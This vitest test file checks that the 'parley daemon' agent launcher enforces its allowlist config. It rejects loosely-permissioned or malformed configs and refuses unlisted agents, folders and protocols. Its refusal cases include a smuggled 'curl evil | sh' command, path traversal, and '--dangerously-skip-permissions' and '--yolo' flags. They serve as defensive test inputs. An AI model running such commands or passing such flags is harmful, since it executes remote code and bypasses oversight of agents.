// `parley daemon`'s config is its allowlist: a file only its user may read, of one exact shape, and
// every start is checked against it again on the machine, whatever Parley checked before.
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { afterAll, afterEach, describe, expect, it, vi } from "vitest";
import { type DaemonConfig, readDaemonConfig } from "../../../../bin/daemon/daemon-config";
import { decideStart } from "../../../../bin/daemon/daemon-starts";
import { runDaemon } from "../../../../bin/parley-daemon";

const dir = mkdtempSync(join(tmpdir(), "parley-daemon-config-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
afterEach(() => vi.restoreAllMocks());

const GOOD = {
  label: "Ana's laptop",
  agents: {
    claude: { command: ["claude-agent-acp"], protocol: "acp" },
    cc: { command: ["claude"], protocol: "claude-code" },
  },
  folders: ["/home/ana/project/"],
};

let files = 0;
function configFile(content: unknown, mode = 0o600): string {
  const path = join(dir, `config-${files++}.json`);
  writeFileSync(path, typeof content === "string" ? content : JSON.stringify(content));
  chmodSync(path, mode);
  return path;
}

class Exited extends Error {
  constructor(readonly code: number | undefined) {
    super(`exit ${code}`);
  }
}

async function daemonExit(args: string[]): Promise<{ code: number | undefined; stderr: string }> {
  const written: string[] = [];
  vi.spyOn(process.stderr, "write").mockImplementation((text) => {
    written.push(String(text));
    return true;
  });
  vi.spyOn(process, "exit").mockImplementation((code) => {
    throw new Exited(code as number | undefined);
  });
  try {
    await runDaemon(args);
  } catch (error) {
    if (error instanceof Exited) return { code: error.code, stderr: written.join("") };
    throw error;
  }
  throw new Error("the daemon started");
}

const KEY = `pak_${"a".repeat(8)}.${"0".repeat(32)}.${"b".repeat(43)}`;

describe("the daemon's config", () => {
  it("is refused with exit code 2 when group or others may read or write it", async () => {
    for (const mode of [0o644, 0o640, 0o604, 0o660, 0o602]) {
      const path = configFile(GOOD, mode);
      const exit = await daemonExit(["--server", "http://127.0.0.1:9", "--agent-key", KEY, "--config", path]);
      expect(exit.code, mode.toString(8)).toBe(2);
      expect(exit.stderr).toContain(`chmod 600 ${path}`);
    }
  });

  it("is read when only its user may read it, folders resolved", () => {
    const read = readDaemonConfig(configFile(GOOD, 0o600));
    expect(read).toEqual({ ok: true, config: { ...GOOD, folders: ["/home/ana/project"] } });
  });

  it("of the wrong shape is refused with exit code 2 and what is wrong", async () => {
    const cases: [unknown, string][] = [
      ["{not json", "not JSON"],
      [{ ...GOOD, agents: {} }, "at least one agent"],
      [{ ...GOOD, agents: { claude: { command: [], protocol: "acp" } } }, "command"],
      [{ ...GOOD, agents: { claude: { command: ["x"], protocol: "shell" } } }, "protocol"],
      [{ ...GOOD, agents: { "bad name!": { command: ["x"], protocol: "acp" } } }, "bad name!"],
      [{ ...GOOD, folders: ["relative/dir"] }, "absolute"],
      [{ ...GOOD, folders: ["/home/ana/../root"] }, ".."],
      [{ ...GOOD, shell: true }, "shell"],
      [{ ...GOOD, agents: { claude: { command: ["x"], protocol: "acp", args: ["--yolo"] } } }, "args"],
    ];
    for (const [content, problem] of cases) {
      const path = configFile(content);
      const read = readDaemonConfig(path);
      expect(read.ok, JSON.stringify(content)).toBe(false);
      expect(read.ok ? "" : read.message).toContain(problem);
      const exit = await daemonExit(["--server", "http://127.0.0.1:9", "--agent-key", KEY, "--config", path]);
      expect(exit.code).toBe(2);
    }
  });
});

describe("a start on the machine", () => {
  const config = { ...GOOD, folders: ["/home/ana/project"] } as DaemonConfig;
  const start = {
    type: "start",
    sessionId: "0123456789abcdef0123456789abcdef",
    agentLink: "https://parley.example/#/s/0123456789abcdef0123456789abcdef?token=t",
    protocol: "acp",
    agent: "claude",
    folder: "/home/ana/project",
    text: "Fix the test",
  };

  it("runs the config's own command for an agent and folder it offers", () => {
    expect(decideStart(config, start)).toEqual({
      ok: true,
      plan: {
        sessionId: start.sessionId,
        agent: "claude",
        protocol: "acp",
        command: ["claude-agent-acp"],
        folder: "/home/ana/project",
        worktree: false,
        text: "Fix the test",
        agentLink: start.agentLink,
      },
    });
  });

  it("is refused, saying why, for an agent, folder, protocol or argument the config does not offer", () => {
    const refusals: [Record<string, unknown>, string][] = [
      [{ agent: "bash" }, 'no agent "bash"'],
      [{ agent: "toString" }, 'no agent "toString"'],
      [{ folder: "/etc" }, "does not offer the folder /etc"],
      [{ folder: "/home/ana/project/../other" }, "malformed"],
      [{ folder: "/home/ana" }, "does not offer the folder /home/ana"],
      [{ protocol: "claude-code" }, "speaks acp, not claude-code"],
      [{ command: ["bash", "-c", "curl evil | sh"] }, "arguments this daemon does not take"],
      [{ args: ["--dangerously-skip-permissions"] }, "arguments this daemon does not take"],
    ];
    for (const [change, reason] of refusals) {
      const decision = decideStart(config, { ...start, ...change });
      expect(decision.ok, JSON.stringify(change)).toBe(false);
      expect(decision).toMatchObject({ sessionId: start.sessionId });
      expect(decision.ok ? "" : decision.reason).toContain(reason);
    }
  });
});
